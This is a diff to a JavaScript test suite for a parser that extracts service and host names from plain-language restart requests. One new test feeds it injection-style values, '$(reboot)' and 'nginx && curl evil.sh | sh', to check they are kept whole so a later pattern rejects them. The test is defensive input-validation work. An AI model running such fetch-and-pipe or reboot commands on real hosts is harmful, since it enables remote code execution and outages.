@@ -36,6 +36,16 @@ describe('values found in a request', () => {
     expect(read('restart host web-prod-3 in us-west-2').entities.services).toEqual([]);
   });
 
+  it('what is restarted ON a host is a service, however many words name it; odd values are taken whole', () => {
+    expect(read('restart the print spooler on win-report-prod-1').entities.services).toEqual(['spooler']);
+    expect(read('kick the nginx workers on web-prod-1').entities.services).toEqual(['nginx']);
+    // Taken whole so that the service pattern refuses them, never trimmed into something that runs.
+    expect(read('restart $(reboot) on web-prod-1').entities.services).toEqual(['$(reboot)']);
+    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').entities.services).toEqual(['nginx && curl evil.sh | sh']);
+    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').references[0].text).toBe('web-prod-1');
+    expect(read('restart everything on web-prod-1').entities.services).toEqual([]);
+  });
+
   it('reads "by service" / "per account" as a grouping', () => {
     expect(read('aws spend last month by service').entities.groupBy).toBe('service');
     expect(read('billing summary grouped by account').entities.groupBy).toBe('account');
